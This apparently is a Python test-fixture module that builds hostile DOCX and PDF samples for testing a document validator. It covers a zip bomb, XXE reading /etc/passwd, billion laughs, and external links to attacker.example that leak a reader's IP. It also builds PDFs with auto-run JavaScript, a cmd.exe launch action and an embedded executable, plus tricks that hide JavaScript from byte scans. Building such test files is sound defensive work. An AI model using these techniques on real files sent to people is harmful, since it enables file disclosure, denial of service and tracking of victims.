"""Hostile files made by the tests: each built small, each meant to hurt a naive reader."""

import io
import zipfile

from tests.documents.factories import docx_bytes

DOCUMENT_XML = "word/document.xml"


def rebuilt_docx(
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    content_types: bytes | None = None,
) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(docx_bytes("Ordinary text.")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "[Content_Types].xml" and content_types is not None:
                data = content_types
            data = (replace or {}).get(item.filename, data)
            target.writestr(item.filename, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def zip_bomb_docx() -> bytes:
    """A 'document' whose one part expands from ~100 kB to 300 MB."""
    return rebuilt_docx(add={"word/media/bomb.bin": b"\0" * (300 * 1024 * 1024)})


def xxe_docx() -> bytes:
    evil = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
    )
    return rebuilt_docx(replace={DOCUMENT_XML: evil})


def billion_laughs_docx() -> bytes:
    entities = "".join(
        f'<!ENTITY lol{i} "{"&lol" + str(i - 1) + ";" * 1}{("&lol" + str(i - 1) + ";") * 9}">'
        for i in range(1, 10)
    )
    evil = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    return rebuilt_docx(replace={DOCUMENT_XML: evil})


def deeply_nested_docx() -> bytes:
    depth = 100_000
    evil = (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        + b"<w:body>"
        + b"<w:sdt>" * depth
        + b"</w:sdt>" * depth
        + b"</w:body></w:document>"
    )
    return rebuilt_docx(replace={DOCUMENT_XML: evil})


def docm() -> bytes:
    main = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    source = zipfile.ZipFile(io.BytesIO(docx_bytes("x")))
    types = source.read("[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", main
    )
    return rebuilt_docx(content_types=types, add={"word/vbaProject.bin": b"macro"})


def too_many_parts_docx() -> bytes:
    return rebuilt_docx(add={f"word/extra/{n}.xml": b"<a/>" for n in range(2100)})


def xlsx_like() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr(
            "[Content_Types].xml",
            b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        )
        target.writestr("xl/workbook.xml", b"<workbook/>")
    return out.getvalue()


def truncated_pdf(real_pdf: bytes) -> bytes:
    return real_pdf[: len(real_pdf) // 3]


PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def docx_with_late_doctype() -> bytes:
    """A DOCTYPE after 70 kB of comment: past any scan of a part's first 64 kB."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes("x")))
    main = source.read(DOCUMENT_XML)
    declaration_end = main.index(b"?>") + 2
    late = (
        main[:declaration_end]
        + b"<!--"
        + b"c" * (70 * 1024)
        + b'--><!DOCTYPE w:document [<!ENTITY e "x">]>'
        + main[declaration_end:]
    )
    return rebuilt_docx(replace={DOCUMENT_XML: late})


def docx_with_doctype_in_renamed_part() -> bytes:
    return rebuilt_docx(add={"word/main.dat": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///">]><x/>'})


def docx_with_utf16_doctype() -> bytes:
    return rebuilt_docx(add={"customXml/item9.xml": "<!DOCTYPE x><x/>".encode("utf-16")})


RELATIONSHIP_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_with_outside_relationship(kind: str, target: str = "http://attacker.example/t") -> bytes:
    """One relationship of ``kind`` with TargetMode="External", in the main part's .rels."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes("x")))
    rels_name = "word/_rels/document.xml.rels"
    rels = source.read(rels_name)
    outside = (
        f'<Relationship Id="rIdOutside" Type="{RELATIONSHIP_TYPES}/{kind}" '
        f'Target="{target}" TargetMode="External"/>'
    ).encode()
    return rebuilt_docx(
        replace={rels_name: rels.replace(b"</Relationships>", outside + b"</Relationships>")}
    )


def docx_with_attached_template() -> bytes:
    """Word fetches an attached template when the document opens (and leaks the reader's IP)."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONSHIP_TYPES}/attachedTemplate" '
        'Target="http://attacker.example/template.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    return rebuilt_docx(add={"word/_rels/settings.xml.rels": rels})


def pdf_bytes(build) -> bytes:
    """A one-page PDF from pypdf's writer, changed by ``build(writer)``."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_document_javascript() -> bytes:
    """A script in the catalogue's /Names /JavaScript tree: run when the document opens."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    def build(writer) -> None:
        script = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("app.alert('hello');"),
                }
            )
        )
        tree = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("s"), script])}
        )
        names = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
        writer._root_object[NameObject("/Names")] = names

    return pdf_bytes(build)


def _open_action(action: dict):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def build(writer) -> None:
        entries = {
            NameObject(key): NameObject(value) if value.startswith("/") else TextStringObject(value)
            for key, value in action.items()
        }
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(entries)

    return build


def pdf_with_open_action_javascript() -> bytes:
    return pdf_bytes(_open_action({"/S": "/JavaScript", "/JS": "app.alert(1)"}))


def pdf_with_launch_action() -> bytes:
    return pdf_bytes(_open_action({"/S": "/Launch", "/F": "cmd.exe"}))


def pdf_with_embedded_executable() -> bytes:
    return pdf_bytes(lambda writer: writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\0" * 60))


def pdf_with_escaped_javascript_name() -> bytes:
    """/J#61vaScript is /JavaScript to every reader; a byte search for the name misses it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def pdf_with_javascript_in_an_object_stream() -> bytes:
    """The action sits compressed in an object stream: no "/JavaScript" in the file's bytes."""
    import zlib

    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"4 0 "
    packed = zlib.compress(header + action)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = {}
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    for number, body in plain.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    offsets[5] = out.tell()
    out.write(
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n" % (len(header), len(packed), packed)
    )
    offsets[6] = out.tell()
    rows = [b"\x00\x00\x00\xff\xff"]
    rows += [b"\x01" + offsets[n].to_bytes(2, "big") + b"\x00\x00" for n in (1, 2, 3)]
    rows.append(b"\x02\x00\x05\x00\x00")  # object 4: in object stream 5, at index 0
    rows += [b"\x01" + offsets[n].to_bytes(2, "big") + b"\x00\x00" for n in (5, 6)]
    table = b"".join(rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 2] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n" % (len(table), table)
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[6])
    return out.getvalue()
